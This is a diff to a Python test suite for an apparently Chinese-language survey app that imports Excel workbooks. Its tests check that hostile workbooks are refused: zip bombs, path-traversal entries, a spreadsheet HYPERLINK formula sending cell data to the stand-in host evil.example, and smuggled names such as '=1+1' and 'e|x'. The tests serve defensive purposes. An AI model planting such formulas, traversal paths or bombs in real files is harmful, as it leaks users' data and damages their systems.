@@ -6,6 +6,7 @@ import io
 import json
 import random
 import re
+import secrets
 import zipfile
 from collections.abc import Iterator
 from pathlib import Path
@@ -21,6 +22,8 @@ from tests.drafting.panel.proving import CODES, Site, set_up, site_of
 from tests.drafting.weights_projects import TRUE, fill_allocation, inputs, project
 
 ME = CODES[0]
+CLIMBED = f"panel-climbed-{secrets.token_hex(4)}.xml"
+CLIMBS = tuple("../" * n + CLIMBED for n in range(1, 9))
 FORMULA = '=HYPERLINK("http://evil.example?"&A1,"点我")'
 
 
@@ -75,7 +78,7 @@ def hostile(kind: str, good: bytes) -> bytes:
         ),
         "zip bomb": lambda: repacked(good, {"xl/media/bomb.xml": b"0" * (60 << 20)}),
         "many parts": lambda: repacked(good, {f"xl/media/{k}.bin": b"" for k in range(400)}),
-        "climbing part": lambda: repacked(good, {"../../../tmp/panel-climbed.xml": b"<a/>"}),
+        "climbing part": lambda: repacked(good, dict.fromkeys(CLIMBS, b"<a/>")),
         "too large": lambda: repacked(good, {"xl/media/picture.bin": random.Random(1).randbytes(6 << 20)}),
         "large part": lambda: repacked(good, {"xl/media/zeros.xml": b"0" * (25 << 20)}),
         "empty": lambda: b"",
@@ -108,7 +111,9 @@ def test_a_hostile_workbook_is_refused_and_harms_nobody(staged: Site, questionna
     assert "无法读取" in page
     assert "已导入" in page  # the good one beside it
     assert len(staged.stage.rows(t.submissions)) == 1
-    assert not Path("/tmp/panel-climbed.xml").exists()
+    above = (staged.stage.folder, *staged.stage.folder.parents)
+    assert not [p for folder in above if (p := folder / CLIMBED).exists()]
+    assert not (Path.cwd() / CLIMBED).exists()
 
 
 def test_a_workbook_of_unpacked_size_is_refused_before_it_takes_the_memory(staged: Site, questionnaire: bytes) -> None:
@@ -174,11 +179,11 @@ def test_a_form_with_very_many_fields_is_refused(staged: Site) -> None:
 
 # --- going out --------------------------------------------------------------------------------------------
 @pytest.fixture
-def closed(tmp_path: Path) -> Iterator[Site]:
+def closed(database_url: str, tmp_path: Path) -> Iterator[Site]:
     """A closed round whose experts tried to smuggle formulas and names into files."""
     folder = project(tmp_path / "水泥行业")
     codes = ("=1+1", "../../../climb", "+甲", "CON", "e|x", "专家六")
-    stage = set_up(f"sqlite:///{tmp_path / 'panel.sqlite3'}", folder, codes)
+    stage = set_up(database_url, folder, codes)
     number = stage.round()
     starts = ("=", "+", "-", "@", "\t=", "\r\n@")
     for k, code in enumerate(codes):
